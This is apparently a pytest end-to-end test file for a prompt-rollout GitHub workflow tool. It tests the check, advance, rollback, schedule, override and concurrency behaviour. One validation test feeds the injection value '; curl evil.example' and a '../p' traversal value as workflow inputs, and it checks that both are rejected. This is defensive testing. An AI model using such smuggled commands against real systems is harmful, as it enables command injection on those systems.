"""The workflow for rollouts under the real runner: what production shows, and what is done then."""

import time
from collections.abc import Iterator
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, replace
from io import BytesIO
from pathlib import Path
from zipfile import ZIP_DEFLATED, ZipFile

import pytest

from evalgate.adapters.formats import FORMATS
from evalgate.gate.policy import read_policy
from evalgate.model.policy import RolloutRules
from evalgate.prompts.library import read_prompts
from evalgate.prompts.pointer_text import pointer_text
from evalgate.rollout.hand_move import Signature
from evalgate.rollout.offline import Offline
from evalgate.rollout.overriding import instant
from evalgate.rollout.starting import started
from tests.act.newcomer import (
    DAMAGING,
    HARMLESS,
    NUMBER,
    POLICY,
    Newcomer,
    dispatch_event,
    newcomer,
)
from tests.act.runner import Bench, Run, commit, git, set_up
from tests.act.runner import act as start
from tests.e2e.rollout_shop import Rates, Traffic
from tests.e2e.shop import version, write

pytestmark = [pytest.mark.slow, pytest.mark.full]

LIVE = "prompts/p/live.yaml"
STAGES = (
    "stages: [20, 50, 100], units: 50, bake_minutes: 10, full_after_hours: 0, "
    "latency_ms: 60000, cost_usd: 1"
)
BY_COMMIT = f"{POLICY}promotion: {{by: commit}}\nrollout: {{{STAGES}}}\n"
BY_PULL_REQUEST = f"{POLICY}rollout: {{{STAGES}}}\n"
GOOD = Rates(short=0.0, failed=0.0, refused=0.0)
BAD = replace(GOOD, short=0.4)
CALLS, SCORES = "evalgate-calls", "evalgate-scores"


@dataclass(frozen=True, slots=True, kw_only=True)
class Production:
    """A newcomer's repository with a rollout under way; its traffic is written elsewhere."""

    shop: Newcomer
    served: Path

    def put(self, files: dict[str, str]) -> None:
        """Put files on the default branch, here and on GitHub."""
        shop = self.shop
        git(shop.folder, "switch", "--quiet", "main")
        write(shop.folder, files)
        head = commit(shop.folder, "More")
        git(shop.folder, "update-ref", "refs/remotes/origin/main", "HEAD")
        names = git(shop.folder, "ls-files").splitlines()
        texts = {name: (shop.folder / name).read_text("utf-8") for name in names}
        shop.github.state.git.push("main", texts, commit=head)
        shop.github.state.commits.add(head)

    def begin(self, policy: str = BY_COMMIT, *, hours_ago: float = 0.3) -> float:
        """Begin a rollout of v2 in the past, and return the instant."""
        at = time.time() - 3600 * hours_ago
        self.put({".github/evalgate.yml": policy, "prompts/p/v2.md": version(HARMLESS)})
        folder = self.shop.folder / "prompts"
        tree = {f"prompts/p/{path.name}": path.read_bytes() for path in (folder / "p").iterdir()}
        prompt = read_prompts(tree, "prompts", FORMATS)["p"]
        rules = read_policy(FORMATS.read_yaml("p.yml", policy.encode()), b"").rollout
        move = started(
            prompt,
            "v2",
            offline=Offline(run_id="run-1", version="v2", hash=prompt.identity("v2") or ""),
            rules=rules or RolloutRules(),
            signature=Signature(at=instant(at), by="bea"),
        )
        self.put({LIVE: pointer_text(move.pointer)})
        return at

    def serve(self, since: float, *, hours: float = 0.29, canary: Rates = GOOD) -> None:
        """Write the calls and scores of some traffic, and keep them as artifacts."""
        (self.served / "prompts").symlink_to(self.shop.folder / "prompts")
        Traffic(root=self.served, stable=GOOD, canary=canary).serve(since, hours=hours)
        self.upload(CALLS, "logs")
        self.upload(SCORES, "scores")

    def upload(self, name: str, folder: str, *, cut: int = 0, branch: str = "main") -> None:
        """Keep files as an artifact of a run on a branch, without so many bytes at the end."""
        archive = BytesIO()
        with ZipFile(archive, "w", ZIP_DEFLATED) as file:
            for path in sorted((self.served / folder).iterdir()):
                content = path.read_bytes()
                file.writestr(path.name, content[: len(content) - cut])
        self.shop.github.state.add_artifact(44, archive.getvalue(), name=name, branch=branch)

    def dispatch(self, rollout: str, **inputs: str) -> Run:
        """Start the workflow by hand."""
        return self.shop.gate(
            event="workflow_dispatch",
            workflow="evalgate-rollout.yml",
            payload=dispatch_event(**{"rollout": rollout, "prompt": "p", **inputs}),
        )

    def on_schedule(self) -> Run:
        """Start the workflow by the clock."""
        return self.shop.gate(event="schedule", workflow="evalgate-rollout.yml", payload={})

    def live(self, ref: str = "main") -> str:
        return self.shop.github.state.git.text(LIVE, ref=ref) or ""

    def states(self) -> list[list[str]]:
        deployments = self.shop.github.state.deployments.values()
        return [[status.state for status in each.statuses] for each in deployments]


@pytest.fixture
def production(bench: Bench, tmp_path: Path) -> Iterator[Production]:
    (tmp_path / "served").mkdir()
    with newcomer(bench, tmp_path / "shop") as shop:
        yield Production(shop=shop, served=tmp_path / "served")
        shop.assert_orderly()


@pytest.mark.parametrize(
    ("ago", "canary", "outcome", "verdict"),
    [
        (0.3, GOOD, "advance", "pass"),
        (0.1, GOOD, "hold", "inconclusive"),
        (0.3, BAD, "roll_back", "fail"),
    ],
)
def test_a_check_blocks_unless_the_evidence_says_advance(
    production: Production, ago: float, canary: Rates, outcome: str, verdict: str
) -> None:
    production.serve(production.begin(hours_ago=ago), hours=ago - 0.01, canary=canary)
    before = production.live()
    run = production.dispatch("check")
    assert run.exit_code == (0 if outcome == "advance" else 1), run.log
    outputs = run.steps["gate"].outputs
    assert (outputs["outcome"], outputs["verdict"]) == (outcome, verdict)
    assert (production.live(), production.states()) == (before, [])
    stored = run.stored / "evalgate-reports"
    assert {"report.html", "summary.md", "rollout.json"} <= {each.name for each in stored.iterdir()}
    assert any("### Rollout: v2 of p: " in summary for summary in run.summaries)


def test_an_advance_is_a_commit_with_a_deployment_that_leads_to_the_run(
    production: Production,
) -> None:
    production.serve(production.begin())
    run = production.dispatch("advance", reason="before lunch")
    assert run.exit_code == 0, run.log
    assert "canary: {version: v2, percent: 50," in production.live()
    assert "by: ada" in production.live()
    assert production.states() == [["in_progress", "success"]]
    [deployment] = production.shop.github.state.deployments.values()
    assert deployment.statuses[-1].log_url.endswith("/octo/shop/actions/runs/50")


def test_an_advance_by_pull_request_leaves_the_pointer_to_a_reviewer(
    production: Production,
) -> None:
    production.serve(production.begin(BY_PULL_REQUEST))
    before = production.live()
    run = production.dispatch("advance")
    assert run.exit_code == 0, run.log
    assert production.live() == before
    (pull,) = [
        each for each in production.shop.github.state.pulls.values() if each.number != NUMBER
    ]
    assert pull.head_ref.startswith("evalgate/rollout-p-v2-50-")
    assert "percent: 50" in production.live(pull.head_ref)
    assert production.states() == [["in_progress", "queued"]]


def test_what_is_not_shown_holds_and_is_on_record(production: Production) -> None:
    production.serve(production.begin(hours_ago=0.1), hours=0.09)
    before = production.live()
    run = production.dispatch("advance")
    assert run.exit_code == 1
    assert "exit code 3" in run.log or "exit status 3" in run.log or "exitcode '3'" in run.log
    assert (production.live(), production.states()) == (before, [["in_progress", "failure"]])


def test_somebody_may_go_on_against_the_evidence(production: Production) -> None:
    production.serve(production.begin(hours_ago=0.1), hours=0.09)
    run = production.dispatch("advance", override="true", reason="the judge is down")
    assert run.exit_code == 0, run.log
    assert "overridden: true" in production.live()
    assert "the judge is down" in production.live()


def test_on_schedule_what_is_shown_is_done_where_the_policy_lets_it(
    production: Production,
) -> None:
    automatic = BY_COMMIT.replace(STAGES, f"{STAGES}, automatic: true")
    production.serve(production.begin(automatic))
    run = production.on_schedule()
    assert run.exit_code == 0, run.log
    assert "percent: 50" in production.live()
    assert "by: evalgate" in production.live()
    assert production.states() == [["in_progress", "success"]]


@pytest.mark.parametrize("policy", [BY_COMMIT, BY_PULL_REQUEST], ids=["commit", "pull request"])
def test_on_schedule_harm_goes_back_by_itself(production: Production, policy: str) -> None:
    production.serve(production.begin(policy), canary=BAD)
    run = production.on_schedule()
    assert run.exit_code == 1
    assert "phase: rolled_back" in production.live()
    assert "canary:" not in production.live()
    assert production.states() == [["in_progress", "success"]]
    [incident] = (run.stored / "evalgate-reports/main/p").glob("2*-p-v2.json")
    text = production.shop.github.state.git.text(f"reports/incidents/{incident.name}", ref="main")
    assert text == incident.read_text()


def test_on_schedule_without_a_rollout_nothing_is_asked_for(production: Production) -> None:
    run = production.on_schedule()
    assert run.exit_code == 0, run.log
    assert run.steps["gate"].outputs["verdict"] == "not_applicable"


def test_a_log_that_was_torn_is_read_as_far_as_it_goes(production: Production) -> None:
    production.serve(production.begin())
    production.upload(CALLS, "logs", cut=40)
    run = production.dispatch("check")
    assert run.exit_code == 0, run.log
    told = (run.stored / "evalgate-reports/summary.md").read_text()
    assert "Left out" in told


@pytest.mark.parametrize(
    ("uploaded", "said"),
    [
        ("", "no run on `main` has left an artifact `evalgate-calls`"),
        ("prompts/p", "the artifact evalgate-calls holds no file that ends in .jsonl"),
    ],
    ids=["none", "another one"],
)
def test_evidence_that_is_not_there_is_told(
    production: Production, uploaded: str, said: str
) -> None:
    production.begin()
    (production.served / "prompts").symlink_to(production.shop.folder / "prompts")
    if uploaded:
        production.upload(CALLS, uploaded)
    before = production.live()
    run = production.dispatch("advance")
    assert run.exit_code == 1
    assert said in run.log
    assert (production.live(), production.states()) == (before, [])


def test_what_another_branch_has_uploaded_is_no_evidence(production: Production) -> None:
    at = production.begin()
    production.serve(at, canary=BAD)
    (production.served / "logs").rename(production.served / "bad")
    (production.served / "scores").rename(production.served / "worse")
    Traffic(root=production.served, stable=GOOD, canary=GOOD).serve(at, hours=0.29)
    for branch in ("topic", ""):  # of a pull request, and of a fork whose branch is called main
        production.upload(CALLS, "logs", branch=branch)
        production.upload(SCORES, "scores", branch=branch)
    run = production.dispatch("check")
    assert run.steps["gate"].outputs["outcome"] == "roll_back", run.log


def test_the_evidence_may_lie_in_the_workspace(production: Production) -> None:
    production.serve(production.begin())
    path = ".github/workflows/evalgate-rollout.yml"
    text = (production.shop.folder / path).read_text()
    for name, folder in ((CALLS, "logs"), (SCORES, "scores")):
        assert f"artifact:{name}" in text
        text = text.replace(f"artifact:{name}", folder)
        [file] = (production.served / folder).iterdir()
        production.put({f"{folder}/{file.name}": file.read_text()})
    production.put({path: text})
    production.shop.github.state.artifacts.clear()
    run = production.dispatch("check")
    assert run.exit_code == 0, run.log


@pytest.mark.parametrize(
    ("name", "value", "said"),
    [
        ("rollout", "; curl evil.example", "rollout: expected what is to become of it"),
        ("prompt", "../p", "prompt: there is no prompt"),
        ("version", "v9", "version: v2 of `p` is rolled out, and not v9"),
        ("override", "perhaps", "the input override takes true or false"),
    ],
)
def test_inputs_that_make_no_sense_move_nothing(
    production: Production, name: str, value: str, said: str
) -> None:
    production.begin()
    before = production.live()
    run = production.dispatch(**{"rollout": "advance", name: value})
    assert run.exit_code == 1
    assert said in run.log
    assert (production.live(), production.states()) == (before, [])


def test_on_another_branch_nothing_runs(production: Production) -> None:
    production.begin()
    before = production.live()
    git(production.shop.folder, "switch", "--quiet", "--create", "elsewhere")
    payload = dispatch_event(rollout="rollback", prompt="p") | {"ref": "refs/heads/elsewhere"}
    run = production.shop.gate(
        event="workflow_dispatch", workflow="evalgate-rollout.yml", payload=payload
    )
    assert "gate" not in run.steps
    assert production.live() == before


@pytest.mark.parametrize(
    ("text", "code", "begun"), [(HARMLESS, 0, True), (DAMAGING, 1, False)], ids=["good", "bad"]
)
def test_a_rollout_begins_when_the_gate_lets_it(
    production: Production, text: str, code: int, *, begun: bool
) -> None:
    production.put({"prompts/p/v2.md": version(text), ".github/evalgate.yml": BY_COMMIT})
    run = production.dispatch("start", version="v2")
    assert run.exit_code == code, run.log
    assert ("canary: {version: v2, percent: 20," in production.live()) == begun
    assert production.states() == [["in_progress", "success" if begun else "failure"]]
    assert production.shop.claude.calls > 0


def at_once(production: Production, tmp_path: Path, *acts: str) -> list[Run]:
    """Start the workflow several times in the same moment."""
    bench, begun = production.shop.bench, []
    with ThreadPoolExecutor(len(acts)) as pool:
        for number, act in enumerate(acts):
            own = set_up(tmp_path / f"bench-{number}", bench.original)
            trigger = replace(
                production.shop.trigger,
                event="workflow_dispatch",
                workflow="evalgate-rollout.yml",
                payload=dispatch_event(rollout=act, prompt="p"),
                run=60 + number,
            )
            begun.append(pool.submit(start, own, production.shop.folder, trigger))
        return [each.result() for each in begun]


def test_of_two_that_advance_at_once_one_does(production: Production, tmp_path: Path) -> None:
    production.serve(production.begin())
    production.dispatch("check")  # makes the environment that both copy
    runs = at_once(production, tmp_path, "advance", "advance")
    assert sorted(run.exit_code for run in runs) == [0, 1], [run.log for run in runs]
    assert "percent: 50" in production.live()
    assert production.live().count("phase: serving") == 2


def test_whoever_advances_at_once_with_a_rollback_does_not_undo_it(
    production: Production, tmp_path: Path
) -> None:
    production.serve(production.begin())
    production.dispatch("check")
    _, back = at_once(production, tmp_path, "advance", "rollback")
    assert back.exit_code == 0, back.log
    assert "canary:" not in production.live()
    assert production.live().count("phase: rolled_back") == 1
